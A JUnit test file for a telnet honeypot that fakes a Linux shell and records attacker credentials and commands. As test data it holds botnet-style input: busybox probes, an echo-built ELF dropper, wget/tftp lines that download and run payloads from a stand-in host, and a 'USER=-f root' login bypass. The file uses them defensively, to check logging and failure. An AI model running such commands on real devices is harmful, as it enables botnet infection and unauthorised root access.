// SPDX-License-Identifier: Apache-2.0
package io.honeymesh.trap.telnet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.honeymesh.api.Captured;
import io.honeymesh.api.Conversation;
import io.honeymesh.api.Conversation.Ending;
import io.honeymesh.api.Evidence;
import io.honeymesh.api.spi.MachineFacts;
import io.honeymesh.api.spi.MachineFiles;
import io.honeymesh.api.spi.Persona;
import io.honeymesh.api.spi.PersonalFile;
import io.honeymesh.trap.telnet.Client.Manner;
import io.honeymesh.traps.TrapHarness;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

@Timeout(60)
class TelnetTrapTest {

    private static final int NODE = 0;
    private static final Machine MACHINE = Machine.of(TrapHarness.persona(NODE));
    private static final String WRONG = "wrong";
    private static final String RIGHT = Nodes.RIGHT;
    private static final String ASKED =
            "\u00ff\u00fb%\u00ff\u00fb&\u00ff\u00fd\u0018\u00ff\u00fd \u00ff\u00fd#\u00ff\u00fd'\u00ff\u00fd$"
                    + "\u00ff\u00fb\u0003\u00ff\u00fd\u0001\u00ff\u00fd\"\u00ff\u00fd\u001f\u00ff\u00fb\u0005\u00ff\u00fd!"
                    + "\u00ff\u00fb\u0001\u00ff\u00fd\u0006\u00ff\u00fd\0";
    private static final String LOGIN = MACHINE.hostName() + " login: ";
    private static final String BANNER =
            "\r\nLinux " + MACHINE.release() + " (" + MACHINE.hostName() + ") (pts/0)\r\n\r\n" + LOGIN;

    @Test
    void aClientThatTypesAtOnceIsNotMadeToWait() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE)) {
            long before = System.nanoTime();
            String answers = trap.talk("root\r\n" + WRONG + "\r\n");
            assertEquals(ASKED + BANNER + "root\r\nPassword: \r\n\r\nLogin incorrect\r\n" + LOGIN, answers);
            assertTrue(System.nanoTime() - before < 1_400_000_000L);
            assertEquals(
                    List.of(new Evidence.Credential("password", Captured.of("root"), Captured.of(WRONG))),
                    trap.conversation().evidence());
        }
    }

    @Test
    void aScannerThatTypesWhatIsNoLoginGetsNoPrompt() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE)) {
            for (String probe :
                    List.of("\r\n\r\n", "HELP\r\n", "GET / HTTP/1.0\r\n\r\n", "OPTIONS sip:nm SIP/2.0\r\nVia: x\r\n")) {
                assertEquals(ASKED.substring(0, 21), trap.talk(probe), probe);
                assertEquals(probe, trap.conversation().payload().latin1());
            }
        }
    }

    @Test
    void whatIsTypedWhileOptionsAreAgreedOnIsNotLost() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE)) {
            trap.talk("ro\u00ff\u00fc\u0018ot\r\n" + WRONG + "\r\n");
            assertEquals(
                    List.of(new Evidence.Credential("password", Captured.of("root"), Captured.of(WRONG))),
                    trap.conversation().evidence());
        }
    }

    @Test
    void whatTelnetdAsksFirstComesInOnePiece() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE);
                Socket client = trap.connect()) {
            byte[] first = new byte[64];
            int count = client.getInputStream().read(first);
            assertEquals(ASKED.substring(0, 21), new String(first, 0, count, StandardCharsets.ISO_8859_1));
        }
    }

    @Test
    void theRecordingIsWhatIsTypedAndShownWithoutTheProtocolsCommands() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE);
                Client client = new Client(trap.port(), Manner.TERMINAL)) {
            client.until("login: ");
            client.type("root\r\0");
            client.until("Password: ");
            client.type(RIGHT + "\r\0");
            client.until("# ");
            client.type("echo h\u00c3\u00b6h\u00ff\u00f1\r\0exit\r\0");
            client.rest();
            Conversation seen = trap.conversation();
            assertEquals(
                    "root\r" + RIGHT + "\recho h\u00c3\u00b6h\rexit\r",
                    seen.payload().latin1());
            String name = seen.recording().orElseThrow();
            assertTrue(name.endsWith(".cast"), name);
            String recording = java.nio.file.Files.readString(
                    trap.folder().resolve("recordings").resolve(name));
            for (String piece : List.of(
                    "\"o\",\"" + LOGIN + "\"]",
                    "\"i\",\"root\\r\"]",
                    "\"o\",\"root\"]",
                    "\"o\",\"h\\u00f6h\\r\\n\"]")) {
                assertTrue(recording.contains(piece), piece + " in " + recording);
            }
        }
    }

    @Test
    void toWhoSaysNothingItSaysNothingMoreThanItsQuestions() throws IOException {
        try (TrapHarness trap = TrapHarness.open(new TelnetTrap(), Map.of("read.deadline", "200ms"));
                Client client = new Client(trap.port(), Manner.BOT)) {
            assertEquals(ASKED.substring(0, 21), client.rest());
            assertEquals(List.of(), trap.conversation().evidence());
        }
    }

    @Test
    void guessingPaysForAccountsThatTheMachineHas() throws IOException {
        try (TrapHarness trap = TrapHarness.open(new TelnetTrap(Duration.ofMillis(1)), Map.of(), NODE)) {
            String guesses = "root\r\none\r\nroot\r\ntwo\r\nroot\r\nthree\r\nroot\r\nfour\r\n";
            assertFalse(trap.talk(guesses.replace("root", "nosuch")).contains("nosuch@"));
            assertFalse(trap.talk("root\r\none\r\n").contains("root@"), "the first is never right");
            assertTrue(trap.talk(guesses).contains("root@" + MACHINE.hostName() + ":~# "));
        }
    }

    @Test
    void systemAccountsNeverGetInAndTheFifthFailureEndsTheConversation() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE)) {
            String answers = trap.talk("daemon\r\nx\r\n".repeat(6));
            assertTrue(answers.endsWith("Login incorrect\r\nMaximum number of tries exceeded (5)\r\n"), answers);
            assertEquals(Ending.TRAP, trap.conversation().ending());
        }
    }

    @Test
    void aBotGetsWhatItLooksFor() throws IOException {
        assertEquals(
                "enable\r\n" + Shell.ENABLED.replace("\n", "\r\n")
                        + "system\r\n-bash: system: command not found\r\nshell\r\n"
                        + "-bash: shell: command not found\r\nsh\r\n/bin/busybox MIRAI\r\nMIRAI: applet not found\r\n",
                withoutPrompts(shell("enable", "system", "shell", "sh", "/bin/busybox MIRAI")));
        String probing = shell(
                "cat /proc/mounts; /bin/busybox ECCHI",
                "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon",
                "cd /tmp || cd /var/run",
                "cat /bin/echo || while read i; do echo $i; done < /bin/echo",
                "uname -m && echo OK");
        assertTrue(probing.contains("/dev/vda1 / ext4 rw,relatime,errors=remount-ro 0 0\r\n"), probing);
        assertTrue(probing.contains("ECCHI: applet not found\r\n"), probing);
        assertTrue(probing.contains("kami/dev\r\n"), probing);
        assertTrue(probing.contains(":/tmp# "), probing);
        assertTrue(probing.contains("\u007fELF\2\1\1"), probing);
        assertTrue(probing.contains("x86_64\r\nOK\r\n"), probing);
    }

    @Test
    void theMachinesFilesAreTheSameAsInOtherTraps() {
        Persona persona = TrapHarness.persona(0);
        MachineFiles same = new MachineFiles(persona.machine());
        Files files = new Files(Machine.of(persona), "root", _ -> {});
        assertEquals(same.passwd(), files.read("/etc/passwd").orElseThrow());
        assertEquals(same.mounts(), files.read("/proc/mounts").orElseThrow());
        assertEquals(same.version(), files.read("/proc/version").orElseThrow());
        assertEquals(same.cpuInfo(), files.read("/proc/cpuinfo").orElseThrow());
        MachineFacts.Account account = persona.machine().operator();
        Files home = new Files(Machine.of(persona), account.name(), _ -> {});
        List<PersonalFile> own = PersonalFile.atHome(persona, account);
        assertEquals(own.stream().map(PersonalFile::name).sorted().toList(), home.names(account.home()));
        assertTrue(own.stream().allMatch(file -> home.exists(account.home() + "/" + file.name())));
    }

    @Test
    void aProgramSentThroughEchoIsKeptWhole() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE)) {
            String hello = "printf 'x' > /dev/null; cd /tmp; echo -ne \"\\x7f\\x45\\x4c\\x46\" > .d";
            trap.talk("root\r\n" + RIGHT + "\r\n" + hello
                    + "\r\necho -ne '\\x01\\x00\\0101' >> .d\r\nchmod 777 .d; ./.d\r\n");
            List<Evidence> evidence = trap.conversation().evidence();
            List<Evidence.Upload> uploads = evidence.stream()
                    .filter(Evidence.Upload.class::isInstance)
                    .map(Evidence.Upload.class::cast)
                    .toList();
            assertEquals(1, uploads.size());
            assertEquals("/tmp/.d", uploads.getFirst().name().latin1());
            assertEquals("\u007fELF\1\0A", uploads.getFirst().head().latin1());
            assertTrue(evidence.contains(new Evidence.Command(Captured.of(hello))));
            assertFalse(evidence.toString().contains(">> .d"), "what is in the upload is not kept twice");
        }
    }

    @Test
    void S10_whatWouldFetchIsKeptAndFails() throws IOException {
        String said = shell(
                "wget http://192.0.2.7/bins.sh",
                "/bin/busybox wget http://192.0.2.7:8080/x -O /tmp/x",
                "busybox tftp -g -r x 192.0.2.7",
                "curl -O http://192.0.2.7/x",
                "tftp 192.0.2.7 -c get x",
                "wget -q http://no.example/x; chmod 777 x; ./x");
        assertTrue(
                said.contains(
                        "--  http://192.0.2.7/bins.sh\r\nConnecting to 192.0.2.7:80... failed: No route to host.\r\n"),
                said);
        assertTrue(said.contains("wget: can't connect to remote host (192.0.2.7): No route to host\r\n"), said);
        assertTrue(said.contains("tftp: sendto: No route to host\r\n"), said);
        assertTrue(said.contains("-bash: curl: command not found\r\n"), said);
        assertTrue(said.contains("-bash: tftp: command not found\r\n"), said);
        assertTrue(said.contains("chmod: cannot access 'x': No such file or directory\r\n"), said);
        assertTrue(said.contains("-bash: ./x: No such file or directory\r\n"), said);
    }

    @Test
    void commandsAreJoinedRedirectedAndPiped() throws IOException {
        String said = shell(
                "false && echo a || echo b; echo c # d",
                "echo one > f; echo two >> f; cat f | grep tw",
                "cat < f | wc -l",
                "cat nope 2>/dev/null; echo $?",
                "echo \"$HOME\" '$HOME' \\$x",
                "echo x &> g; cat g",
                "sh -c 'echo in; exit; echo out'",
                "echo hi | sh",
                "echo 'open",
                "cp f h && rm f && cat h f",
                "head -c 3 h",
                "dd bs=4 count=1 if=/bin/echo 2>/dev/null");
        for (String expected : List.of(
                "b\r\nc\r\n",
                "two\r\n",
                "2\r\n",
                "1\r\n",
                "/root $HOME $x\r\n",
                "x\r\n",
                "in\r\n",
                "-bash: unexpected EOF",
                "one\r\ntwo\r\ncat: f: No such file or directory\r\n",
                "oneroot@",
                "\u007fELFroot@")) {
            assertTrue(said.contains(expected), () -> expected + " in " + said);
        }
        assertFalse(said.contains("\nout\r\n"), said);
    }

    @Test
    void aLoginByEnvironmentIsTheBypassAndACommand() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE)) {
            String answers = trap.talk("\u00ff\u00fb'\u00ff\u00fa'\0\0USER\1-f root\u00ff\u00f0id\r\n");
            assertTrue(answers.contains("uid=0(root) gid=0(root) groups=0(root)\r\n"), answers);
            assertTrue(trap.conversation().evidence().contains(new Evidence.Command(Captured.of("USER=-f root"))));
        }
    }

    @Test
    void aUserOfTheEnvironmentIsAskedOnlyForThePassword() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE)) {
            String answers = trap.talk("\u00ff\u00fb'\u00ff\u00fa'\0\0USER\1eve\u00ff\u00f0daemon\r\n");
            assertTrue(answers.contains("(pts/0)\r\n\r\nPassword: "), answers);
            assertTrue(trap.conversation()
                    .evidence()
                    .contains(new Evidence.Credential("password", Captured.of("eve"), Captured.of("daemon"))));
        }
    }

    @Test
    void theLongestSubnegotiationIsTakenAndOneByteMoreIsAViolation() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE)) {
            String longest = "\u00ff\u00fa\u0018\0" + "x".repeat(Terminal.MAX_SUBNEGOTIATION_BYTES - 2);
            trap.talk(longest + "\u00ff\u00f0");
            assertTrue(trap.conversation().evidence().getFirst() instanceof Evidence.Detail);
            trap.talk(longest + "x\u00ff\u00f0");
            assertTrue(trap.conversation().evidence().getFirst() instanceof Evidence.Violation);
        }
    }

    @Test
    void theLongestLineIsTakenAndWhatIsLongerIsCut() throws IOException {
        String longest = "x".repeat(Terminal.MAX_LINE_BYTES);
        for (String typed : List.of(longest, longest + "y")) {
            try (TrapHarness trap = Nodes.open(NODE)) {
                trap.talk("root\r\n" + RIGHT + "\r\n" + typed + "\r\n");
                assertTrue(trap.conversation().evidence().contains(new Evidence.Command(Captured.of(longest))));
            }
        }
    }

    @Test
    void onlySoManyFilesAndBytesAreKept() throws IOException {
        StringBuilder keys = new StringBuilder("root\r\n" + RIGHT + "\r\ncd /tmp\r\n");
        for (int i = 0; i <= Files.MAX_ADDED; i++) {
            keys.append("echo x > ").append(i).append("\r\n");
        }
        try (TrapHarness trap = Nodes.open(NODE)) {
            assertTrue(trap.talk(keys.toString()).contains("-bash: 32: No space left on device\r\n"));
        }
        Files files = new Files(MACHINE, "root", e -> {});
        String half = "x".repeat(Files.MAX_KEPT_BYTES / 2 + 1);
        files.write("/tmp/a", half, false);
        files.write("/tmp/b", half, false);
        assertEquals(half.length() - 2, files.read("/tmp/b").orElseThrow().length());
    }

    @Test
    void optionsAreAnsweredOnlySoOften() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE)) {
            String answers = trap.talk("\u00ff\u00fd\u0006".repeat(1000));
            long marks = answers.split("\u00ff\u00fb\u0006", -1).length - 1;
            assertEquals(Options.MAX_ANSWERS, marks);
        }
    }

    @Test
    void keysAreEditedAsOnATerminal() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE)) {
            String answers = trap.talk("\u00ff\u00fc\u0018rx\177oot\025root\r\0" + WRONG + "z\b\n" + "\3");
            assertTrue(answers.contains("rx\b \boot" + "\b \b".repeat(4) + "root\r\nPassword: \r\n"), answers);
            assertTrue(answers.endsWith("^C\r\n"), answers);
            assertTrue(trap.conversation()
                    .evidence()
                    .contains(new Evidence.Credential("password", Captured.of("root"), Captured.of(WRONG))));
        }
    }

    @Test
    void damagedBytesAreAnsweredAndNothingBreaks() throws IOException {
        String in = "root\r\n" + RIGHT + "\r\n";
        try (TrapHarness trap = Nodes.open(NODE)) {
            for (String bytes : List.of(
                    "\u00ff",
                    "\u00ff\u00fa",
                    "\u00ff\u00fa\u00ff\u00f0",
                    "\u00ff\u00fa'\u00ff\u00f0",
                    "\u00ff\u00fa'\0\0USER\1\u00ff\u00f0",
                    "\u00ff\u00fb\u00ff\u00ff\u00fd\u00ff",
                    "\u00ff\u00fa\u0018\u00ff\1\u00ff",
                    "\0\0\0",
                    "\4",
                    "\r\n\r\n",
                    "\u00ff\u00ff\u00ff\u00f6",
                    in + ";;;&&||",
                    in + "> ",
                    in + "<\n",
                    in + ">>>\n",
                    in + "echo -e '\\",
                    in + "echo -e '\\x' '\\0' '\\c'\n",
                    in + "\\\n",
                    in + "\"\n",
                    in + "$\n",
                    in + "''\n",
                    in + "/\n",
                    in + "//\n",
                    in + "./\n",
                    in + "..\n",
                    in + "sh -c 'sh -c sh -c sh'\n",
                    in + "sh;".repeat(50) + "exit\n",
                    in + "dd bs=0 count=0\n",
                    in + "cp\n",
                    in + "dd bs=9999999 count=9999999 if=/bin/ls of=x\n",
                    in + "head -n\n",
                    in + "cat " + "/bin/ls ".repeat(900) + "\n",
                    in + "wget\n",
                    in + "wget :///\n",
                    in + "busybox tftp\n",
                    in + "su\n",
                    in + "busybox\nbusybox --list\n",
                    in + "busybox sh\nfoo\nexit\n",
                    in + "cat . ; ls /nope; rm / ; mv x y; chmod; mkdir; tee\n",
                    in + "cat x y < z\n",
                    in + "echo a > /proc/x; echo a > /sys/x; echo a > /; echo a > /no/x\n",
                    in + "2>&1\n",
                    in + "ls -la /\nps; free; id\n")) {
                trap.talk(bytes);
                assertNotEquals(Ending.TRAP_FAILED, trap.conversation().ending(), bytes);
            }
        }
    }

    @Test
    void aTerminalGetsBracketedPasteAndItsTypeIsKept() throws IOException {
        try (TrapHarness trap = Nodes.open(NODE);
                Client client = new Client(trap.port(), Manner.TERMINAL)) {
            client.until("login: ");
            client.type("root\r\n");
            client.until("Password: ");
            client.type(RIGHT + "\r\n");
            client.until("\u001b[?2004hroot@" + MACHINE.hostName() + ":~# ");
            client.type("exit\r\n");
            assertEquals("exit\r\n\u001b[?2004l\rlogout\r\n", client.rest());
            assertTrue(trap.conversation()
                    .evidence()
                    .contains(new Evidence.Detail("telnet.terminal", Captured.of("xterm"))));
        }
    }

    @Test
    void whoBeginsWithAnOptionSpeaksTelnet() {
        TelnetTrap trap = new TelnetTrap();
        assertTrue(trap.canHandle(new byte[] {(byte) 255, (byte) 253, 3}));
        assertFalse(trap.canHandle(new byte[] {(byte) 255}));
        assertFalse(trap.canHandle("GET / HTTP/1.1".getBytes(StandardCharsets.US_ASCII)));
    }

    @Test
    void nodesDifferAndEachStaysTheSame() throws IOException {
        try (TrapHarness one = Nodes.open(1);
                TrapHarness two = Nodes.open(2);
                TrapHarness again = Nodes.open(1)) {
            String first = one.talk("daemon\r\nx\r\n");
            assertNotEquals(first, two.talk("daemon\r\nx\r\n"));
            assertEquals(first, again.talk("daemon\r\nx\r\n"));
        }
    }

    /** What is said after the login, to these lines. */
    private static String shell(String... lines) throws IOException {
        try (TrapHarness trap = Nodes.open(NODE)) {
            String said = trap.talk("root\r\n" + RIGHT + "\r\n" + String.join("\r\n", lines) + "\r\n");
            Conversation seen = trap.conversation();
            assertNotEquals(Ending.TRAP_FAILED, seen.ending());
            for (String line : lines) {
                assertTrue(seen.evidence().contains(new Evidence.Command(Captured.of(line))), line);
            }
            return said.substring(said.indexOf("on tty1\r\n") + 9);
        }
    }

    private static String withoutPrompts(String said) {
        return said.replace("root@" + MACHINE.hostName() + ":~# ", "")
                .replace("sh-5.2# ", "")
                .replace("exit\r\nlogout\r\n", "");
    }
}
